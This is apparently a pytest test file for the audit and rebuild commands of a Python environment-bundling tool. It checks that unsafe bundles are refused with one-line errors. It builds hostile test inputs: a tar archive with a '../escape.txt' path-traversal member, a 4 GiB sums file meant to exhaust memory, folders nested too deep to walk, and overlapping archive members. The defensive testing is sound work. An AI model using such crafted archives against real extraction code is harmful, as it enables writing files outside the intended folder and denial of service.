def test_auditing_an_unsafe_archive_is_bad_input(tmp_path: Path, cli: Callable[..., Any]) -> None:
    archive = tmp_path / "b.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        info = tarfile.TarInfo("../escape.txt")
        info.size = 4
        tar.addfile(info, io.BytesIO(b"evil"))
    _one_line_error(cli("audit", archive), 2, "unsafe path in archive")
    assert not (tmp_path.parent / "escape.txt").exists()


def test_a_huge_sums_file_is_refused_by_its_size_not_read(tmp_path: Path) -> None:
    """SHA256SUMS was read whole, without the bound every other file of a bundle has: a folder's 4 GiB one (sparse:
    no disk) took 4 GiB of memory and more to decode, and ran the rebuild out of memory."""
    root = _bundle(tmp_path / "b")
    with open(root / "SHA256SUMS", "r+b") as sums:
        sums.truncate(4 << 30)
    lock = lockfile.dump(_lock(), tmp_path / "l.lock")
    limited = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))\n"
        "from envsnap.cli import main\n"
        "sys.exit(main(sys.argv[1:]))\n"
    )
    args = ["rebuild", str(lock), "--bundle", str(root), "--dest", str(tmp_path / "env"), "--dry-run"]
    done = subprocess.run(
        [sys.executable, "-c", limited, *args],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2, done.stderr[-2000:]
    assert done.stderr.count("\n") == 1 and "SHA256SUMS" in done.stderr and "bytes" in done.stderr, done.stderr


def _nest(root: Path, name: str, count: int) -> None:
    """``count`` folders of ``name``, one in another, made by folder handle (not by path, which may be too long)."""
    where = os.open(root, os.O_RDONLY)
    try:
        for _ in range(count):
            os.mkdir(name, dir_fd=where)
            inner = os.open(name, os.O_RDONLY, dir_fd=where)
            os.close(where)
            where = inner
    finally:
        os.close(where)


def _unnest(root: Path, name: str) -> None:
    """Remove the folders of ``name`` ``_nest`` made in ``root``, deepest first, by folder handle: pytest's own
    clean-up of an old temporary folder (``shutil.rmtree``) recursed past Python's limit on 1,000 of them."""
    fds = [os.open(root, os.O_RDONLY)]
    try:
        while True:
            try:
                fds.append(os.open(name, os.O_RDONLY | os.O_NOFOLLOW | os.O_DIRECTORY, dir_fd=fds[-1]))
            except FileNotFoundError:
                break
        while len(fds) > 1:
            os.close(fds.pop())
            os.rmdir(name, dir_fd=fds[-1])
    finally:
        for fd in fds:
            os.close(fd)


def _deep(root: Path) -> str:
    # 1,000 folders down: walking the bundle recursed past Python's limit (RecursionError, exit 1).
    _nest(root, "d", 1000)
    return "more than 128 folders deep in the bundle"


def _long(root: Path) -> str:
    # 20 folders of 250-character names: a path longer than the system allows (OSError: File name too long).
    _nest(root, "d" * 250, 20)
    return "cannot be read in the bundle (File name too long)"


@pytest.mark.parametrize(("spoil", "nested"), [(_deep, "d"), (_long, "d" * 250)])
def test_a_bundle_folder_too_deep_to_walk_is_one_line(
    tmp_path: Path, spoil: Callable[[Path], str], nested: str
) -> None:
    """A stranger's bundle folder nested deeper than a walk or a path allows was a traceback (exit 1), from the
    main check and from the hashing begun in the background; it is refused as an archive that deep is."""
    root = _bundle(tmp_path / "b")
    message = spoil(root)
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "envsnap",
            "rebuild",
            root / "envsnap.lock",
            "--bundle",
            root,
            "--dest",
            tmp_path / "env",
            "--dry-run",
        ],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
        check=False,
    )
    _unnest(root, nested)
    out = SimpleNamespace(code=result.returncode, err=result.stderr)
    _one_line_error(out, 2, message)
    assert not (tmp_path / "env").exists()


@pytest.mark.parametrize(
    ("members", "message"),
    [
        ([("b/x", "file"), ("b/x", "file")], "b/x: in the archive twice"),
        ([("b/x", "dir"), ("b/x", "file")], "b/x: in the archive twice"),
        ([("b/x", "file"), ("b/x", "dir")], "b/x: in the archive twice"),
        ([("b/x", "file"), ("b/x/y", "file")], "b/x/y: under b/x, a file of the archive"),
    ],
)
def test_a_member_over_another_names_the_members_not_the_unpacked_copy(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    cli: Callable[..., Any],
    members: list[tuple[str, str]],
    message: str,
) -> None:
    """A member written over another, or under a file, named the temporary folder it was unpacked into
    (/tmp/.envsnap-rebuild-.../top/x, gone by the time it was read), and called a file under a file "twice"."""
    monkeypatch.chdir(tmp_path)
    lockfile.dump(_lock(), tmp_path / "env.lock")
    with tarfile.open(tmp_path / "supp.tar.gz", "w:gz") as tar:
        for name, kind in members:
            info = tarfile.TarInfo(name)
            info.type = tarfile.DIRTYPE if kind == "dir" else tarfile.REGTYPE
            info.size = 0 if kind == "dir" else 1
            tar.addfile(info, None if kind == "dir" else io.BytesIO(b"x"))
    result = cli("rebuild", "env.lock", "--bundle", "supp.tar.gz", "--dest", "env", "--dry-run")
    assert (result.code, result.out, result.err) == (2, "", f"envsnap: error: supp.tar.gz: {message}\n"), result
    assert not (tmp_path / "env").exists()
